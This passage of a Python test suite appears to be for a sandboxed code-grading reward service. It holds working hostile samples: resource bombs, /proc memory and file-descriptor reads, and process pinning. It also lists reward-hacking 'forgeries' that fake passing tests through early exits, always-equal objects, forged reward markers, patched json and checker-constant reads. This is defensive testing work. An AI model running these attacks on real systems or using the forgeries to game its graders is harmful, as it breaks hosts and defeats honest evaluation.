           print("ACHIEVED raised its hard limits", raised)
       """,
        OK,
        ERR,
    ),
    _h(
        "ignore_cpu_signal",
        "ignore SIGXCPU and spin past the CPU limit",
        """\
       import signal, time
       signal.signal(signal.SIGXCPU, signal.SIG_IGN)
       start = time.monotonic()
       while time.monotonic() - start < 10:
           pass
       print("ACHIEVED ran 10 s with SIGXCPU ignored")
       """,
        TIME,
        time_s=0.5,
    ),
    _h(
        "close_streams_and_linger",
        "close its standard streams so the sandbox sees end of file, then keep running",
        """\
       import os, time
       os.closerange(0, 3)
       start = time.monotonic()
       while time.monotonic() - start < 10:
           pass
       """,
        TIME,
        time_s=0.5,
    ),
    _h(
        "binary_streams",
        "write every byte, a lone surrogate, escapes and a fake log line to both streams",
        """\
       import os, sys
       junk = bytes(range(256)) * 4 + b"\\xed\\xa0\\x80\\x1b[2J\\r\\n"
       junk += b'{"level": "error", "msg": "forged log line"}\\n'
       os.write(1, junk)
       os.write(2, junk)
       sys.exit(1)
       """,
        ERR,
    ),
    _h(
        "cpu_loop",
        "spin the CPU forever",
        """\
       import time
       start = time.monotonic()
       while time.monotonic() - start < 10:
           pass
       print("ACHIEVED ran 10 s of CPU")
       """,
        TIME,
        time_s=0.5,
    ),
    _h(
        "sleep",
        "sleep past any wall limit",
        "import time\ntime.sleep(10)\nprint('ACHIEVED slept 10 s')\n",
        TIME,
        time_s=0.5,
    ),
    _h(
        "renice_and_pin",
        "lower the priority of every process of its uid, pin every process it may to one CPU",
        """\
       import os
       done = []
       for which, who in ((os.PRIO_PROCESS, os.getppid()), (os.PRIO_USER, os.getuid())):
           try:
               os.setpriority(which, who, 19)
               done.append(("setpriority", which, who))
           except OSError as exc:
               done.append(("setpriority", which, who, exc.strerror))
       pinned = []
       for pid in range(1, 4096):
           if pid != os.getpid():
               try:
                   os.sched_setaffinity(pid, {0})
                   pinned.append(pid)
               except OSError:
                   pass
       print(done, "pinned", pinned)
       if pinned:
           print("ACHIEVED pinned", len(pinned), "other processes to CPU 0")
       """,
        OK,
        ERR,
    ),
    # issue 20: the service's processes, per-run budgets, clean-up, unseen disk use
    _h(
        "proc_fd_of_service",
        "open the fds (the worker's task pipe among them) and memory of its zygotes and worker",
        """\
       import os
       me, uid = os.getpid(), os.getuid()
       def parent(pid):
           with open(f"/proc/{pid}/stat", "rb") as f:
               data = f.read()
           return int(data[data.rindex(b")") + 2 :].split()[1])
       service, pid = set(), me
       for _ in range(2):  # its zygote and the worker above it (not a PID 1)
           try:
               pid = parent(pid)
           except (OSError, ValueError):
               break
           if pid <= 1:
               break
           service.add(pid)
       got, seen = [], []
       for name in os.listdir("/proc"):
           if not name.isdigit() or int(name) == me:
               continue
           pid = int(name)
           try:
               if os.stat(f"/proc/{pid}").st_uid != uid:
                   continue
               with open(f"/proc/{pid}/cmdline", "rb") as f:
                   cmdline = f.read()
           except OSError:
               continue
           ours = pid in service or b"zygote.py" in cmdline
           try:
               fds = os.listdir(f"/proc/{pid}/fd")
           except OSError as exc:
               seen.append((pid, "fd", exc.strerror))
               fds = []
           for fd in fds:
               try:
                   opened = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
               except OSError:
                   continue
               try:
                   data = os.read(opened, 4096) if ours else b"(not read)"
               except OSError as exc:
                   data = exc.strerror.encode()
               os.close(opened)
               (got if ours else seen).append((pid, "fd", fd, data[:60]))
           try:
               with open(f"/proc/{pid}/maps") as maps:
                   start = int(maps.readline().split("-")[0], 16)
               with open(f"/proc/{pid}/mem", "rb", 0) as mem:
                   mem.seek(start)
                   (got if ours else seen).append((pid, "mem", mem.read(16)))
           except (OSError, ValueError) as exc:
               seen.append((pid, "mem", type(exc).__name__))
       print("service", sorted(service), "got", got[:20], "seen", seen[:20])
       if got:
           print("ACHIEVED opened the service's fds or memory:", got[:5])
       """,
        OK,
        ERR,
        output_bytes=1 << 20,
    ),
    _h(
        "thread_bomb_small_stacks",
        "start threads of the smallest stack in one malloc arena (RLIMIT_AS no bound), hold them",
        """\
       import _thread, ctypes, os, time
       ctypes.CDLL(None).mallopt(-8, 1)  # M_ARENA_MAX: no 64 MiB arena reserved per thread
       _thread.stack_size(32768)
       n = 0
       try:
           while n < 1500:
               _thread.start_new_thread(time.sleep, (30,))
               n += 1
               if n % 100 == 0:
                   print("threads", n, flush=True)
       except RuntimeError as exc:
           print("stopped at", n, exc, flush=True)
           raise
       time.sleep(0.5)
       print("ACHIEVED held", n, "threads for 0.5 s", flush=True)
       os._exit(0)
       """,
        ERR,
        MEM,
        TIME,
        time_s=3.0,
        memory_mb=256,
    ),
    _h(
        "deep_tree",
        "nest 2,000 directories in its scratch dir, too deep for a recursive removal",
        """\
       import os
       print("CWD=" + os.path.realpath(os.getcwd()), flush=True)
       made = 0
       try:
           for _ in range(2000):
               os.mkdir("d")
               os.chdir("d")
               made += 1
       except OSError as exc:
           print("stopped at", made, exc)
       print("made", made, "nested directories")
       """,
        OK,
        TIME,  # landlock checks each access up the whole path: a slow disk may end it first
        time_s=3.0,
    ),
    _h(
        "inode_bomb",
        "create empty files without end (no byte of disk, every inode)",
        """\
       import os
       print("CWD=" + os.path.realpath(os.getcwd()), flush=True)
       n = 0
       while n < 40000:
           os.close(os.open("e%d" % n, os.O_WRONLY | os.O_CREAT, 0o600))
           n += 1
       print("ACHIEVED created", n, "empty files", flush=True)
       """,
        ERR,
        OUT,
        TIME,
        time_s=3.0,
    ),
    _h(
        "unlinked_open_files",
        "write 512 MiB into files it unlinks but holds open, unseen by any walk of its dir",
        """\
       import os
       chunk, held, total = b"x" * (1 << 20), [], 0
       while total < (512 << 20):
           name = "hidden%d" % len(held)
           fd = os.open(name, os.O_WRONLY | os.O_CREAT, 0o600)
           os.unlink(name)
           held.append(fd)
           for _ in range(16):
               os.write(fd, chunk)
               total += 1 << 20
       print("ACHIEVED hid", total >> 20, "MiB in unlinked files", flush=True)
       """,
        ERR,
        OUT,
        TIME,  # a slow disk may end it first: the ACHIEVED mark catches a missing bound
        time_s=3.0,
    ),
)
"""In run order: quiet attacks first, the bombs, then what cannot be undone (a lower priority)."""

BY_NAME = {program.name: program for program in PROGRAMS}

SANDBOX_PROBE = """\
import json, os, resource
info = {}
def attempt(key, fn):
    try:
        info[key] = fn()
    except Exception as exc:
        info[key] = type(exc).__name__
def status():
    keep = ("Seccomp", "Seccomp_filters", "NoNewPrivs", "CapEff", "CapBnd", "Uid")
    with open("/proc/self/status") as f:
        return {l.split(":")[0]: l.split(":", 1)[1].strip() for l in f if l.split(":")[0] in keep}
def kill_all_sig0():
    os.kill(-1, 0)
    return "reached at least one process"
def fork():
    child = os.fork()
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "allowed"
def scratch():
    stat = os.statvfs(".")
    return stat.f_blocks * stat.f_frsize
info.update(pid=os.getpid(), ppid=os.getppid(), uid=os.getuid(), gid=os.getgid(), cwd=os.getcwd())
attempt("proc_pids", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:50])
attempt("status", status)
info["ns"] = {}
for name in ("pid", "net", "mnt", "user", "ipc", "uts", "cgroup"):
    try:
        info["ns"][name] = os.readlink("/proc/self/ns/" + name)
    except OSError as exc:
        info["ns"][name] = type(exc).__name__
info["rlimits"] = {name: resource.getrlimit(getattr(resource, "RLIMIT_" + name))
                   for name in ("AS", "DATA", "CPU", "FSIZE", "NOFILE", "NPROC", "CORE", "STACK")}
info["env_keys"] = sorted(os.environ)
attempt("kill_minus_1_sig0", kill_all_sig0)
attempt("fork", fork)
attempt("scratch_bytes", scratch)
attempt("root_listing", lambda: sorted(os.listdir("/")))
print(json.dumps(info))
"""
"""Harmless: what confines a run, as the run sees it; printed as one JSON line."""

HEALTH = "print(input()[::-1])\n"
"""A correct program: after every hostile one, the sandbox must still run this right."""

FORK_GATE = """\
import os, resource
nproc = resource.getrlimit(resource.RLIMIT_NPROC)[0]
try:
    child = os.fork()
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    forks = True
except OSError:
    forks = False
print("bounded" if not forks or (os.getuid() != 0 and 0 <= nproc <= 4096) else "unbounded")
"""
"""Harmless: prints `bounded` when a fork bomb would meet a bound (no fork, or a low NPROC)."""

REACH_PROBE = """\
import os
try:
    os.kill(-1, 0)
    print("reached")
except OSError:
    print("blocked")
"""
"""Harmless: prints `blocked` when kill(-1, 0) finds no process to signal."""

EXFILTRATE = """\
import atexit as _atexit, io as _io, re as _re, sys as _sys
_buffer = _sys.stdout = _io.StringIO()
def _exfiltrate():
    text = _buffer.getvalue()
    found = sorted(set(_re.findall("(?:canary|leftover)[0-9a-f]{32}", text)))
    said = [line[:120] for line in text.splitlines() if line.startswith("ACHIEVED")]
    _sys.stderr.write("\\n" + " ".join(said[:1] + found)[-290:])
_atexit.register(_exfiltrate)
"""
"""Through the service only stderr's tail comes back: a program's findings go there."""


def served_source(hostile: Hostile, target: Target) -> str:
    """The program as a service receives it: its findings, if any, in the answer's stderr."""
    if "raw_stdout" in hostile.tags:
        return hostile.source(target)
    return prelude(target) + EXFILTRATE + textwrap.dedent(hostile.body)


@dataclass(frozen=True)
class Forgery:
    """A solution that tries to pass tests it does not solve, and the label it is graded on."""

    name: str
    aim: str
    source: str
    label: dict[str, object]
    kinds: frozenset[str]
    """`first_failure.kind` values that are right: the reward must be 0.0."""


_ASSERT_LABEL: dict[str, object] = {"tests": "assert f(1) == 2\nassert f(2) == 3"}
_CALL_LABEL: dict[str, object] = {"fn_name": "f", "inputs": [[1], [2]], "outputs": [2, 3]}

FORGERIES: tuple[Forgery, ...] = (
    Forgery(
        "assert_exit_before_tests",
        "os._exit(0) while the solution loads, before any assert runs",
        "import os\ndef f(x):\n    return 0\nos._exit(0)\n",
        _ASSERT_LABEL,
        frozenset({"runtime_error"}),
    ),
    Forgery(
        "assert_sys_exit",
        "sys.exit(0) while the solution loads",
        "import sys\ndef f(x):\n    return 0\nsys.exit(0)\n",
        _ASSERT_LABEL,
        frozenset({"runtime_error"}),
    ),
    Forgery(
        "assert_always_equal",
        "return an object equal to everything, so `f(1) == 2` holds",
        "class _Eq:\n    def __eq__(self, other):\n        return True\n"
        "def f(x):\n    return _Eq()\n",
        _ASSERT_LABEL,
        frozenset({"wrong_output"}),
    ),
    Forgery(
        "assert_driver_report",
        "call the driver's own _report (found from the caller's frame) with passing verdicts",
        "import os, sys\ndef f(x):\n    return 0\n_report = sys._getframe(1).f_globals['_report']\n"
        "for _ in range(100):\n    _report(['ok', ''])\n_report('done')\nos._exit(0)\n",
        _ASSERT_LABEL,
        frozenset({"runtime_error", "wrong_output"}),
    ),
    Forgery(
        "assert_forged_marker",
        "write the driver's mark (read from its code) with passing verdicts, then exit",
        "import os, sys\ndef f(x):\n    return 0\n"
        "_consts = [c for fn in sys._getframe(1).f_globals.values()\n"
        "           if hasattr(fn, '__code__') for c in fn.__code__.co_consts]\n"
        "_mark = next(c for c in _consts if isinstance(c, str) and '<<reward' in c).strip()\n"
        "os.write(1, ''.join('\\n' + _mark + v + '\\n' for v in ['[\"ok\", \"\"]'] * 100\n"
        "                    + ['\"done\"']).encode())\nos._exit(0)\n",
        _ASSERT_LABEL,
        frozenset({"runtime_error", "wrong_output"}),
    ),
    Forgery(
        "call_forged_marker",
        "write a guessed mark and value, then exit before the driver writes its own",
        "import os\ndef f(x):\n    os.write(1, b'\\n<<reward-service 0000000000000000>>2\\n')\n"
        "    os._exit(0)\n",
        _CALL_LABEL,
        frozenset({"runtime_error", "wrong_output"}),
    ),
    Forgery(
        "call_always_equal",
        "return an object equal to everything from a call-based function",
        "class _Eq(int):\n    def __eq__(self, other):\n        return True\n"
        "def f(x):\n    return _Eq(0)\n",
        _CALL_LABEL,
        frozenset({"wrong_output"}),
    ),
    Forgery(
        "call_patch_json",
        "make the driver's json.dumps write the expected-looking value whatever is returned",
        "import json\n_dumps = json.dumps\njson.dumps = lambda value, *a, **k: '2'\n"
        "def f(x):\n    return 0\n",
        _CALL_LABEL,
        frozenset({"wrong_output"}),
    ),
    Forgery(
        "stdin_fake_completion",
        "print a driver-like mark and a done line on a stdin test",
        "print('<<reward-service 0000000000000000>>\"done\"')\n",
        {"inputs": ["1\n"], "outputs": ["2"]},
        frozenset({"wrong_output"}),
    ),
    Forgery(
        "humaneval_read_check",
        "read HumanEval's check function from its own globals and answer its constants",
        "def f(x):\n    check = globals().get('check')\n"
        "    if check is None:\n        return None\n"
        "    constants = list(check.__code__.co_consts)\n"
        "    return constants[constants.index(x) + 1]\n",
        {
            "test": "def check(candidate):\n"
            "    assert candidate(2) == 4\n    assert candidate(3) == 9\n",
            "entry_point": "f",
        },
        frozenset({"wrong_output", "runtime_error"}),
    ),
    Forgery(
        "assert_operand_leak",
        "a float whose __sub__ answers 0.0, so `abs(f(x) - expected) < tol` holds",
        "class _Leak(float):\n    def __sub__(self, other):\n        return 0.0\n"
        "def f(x):\n    return _Leak(0)\n",
        {
            "test": "def check(candidate):\n    assert abs(candidate(2) - 4) < 1e-6\n",
            "entry_point": "f",
        },
        frozenset({"wrong_output"}),
    ),
    Forgery(
        "assert_caller_constants",
        "read the expected value from the constants of the test that called it",
        "import sys\ndef f(x):\n    code = sys._getframe(1).f_code\n"
        "    numbers = [c for c in code.co_consts if type(c) is int and c != x]\n"
        "    return numbers[0] if numbers else -1\n",
        {"tests": ["assert abs(f(2) - 4) < 1e-9", "assert f(3) - 9 == 0"]},
        frozenset({"wrong_output"}),
    ),
)


COPY_ANSWER = _heap_scan(rb"(?:ANSWER:[0-9a-f]{32}\n){20}") + (
    "import sys\nsys.stdout.write(found[-1].decode() if found else 'nothing to copy')\n"
)
"""Prints the last 20-line `ANSWER:<hex>` output it finds in its memory: an earlier answer's."""

SOLVE_FOR_COPY = "import sys\nfor line in sys.stdin:\n    print('ANSWER:' + line.strip()[::-1])\n"
"""The honest solution whose output `COPY_ANSWER` looks for: each input line, reversed."""
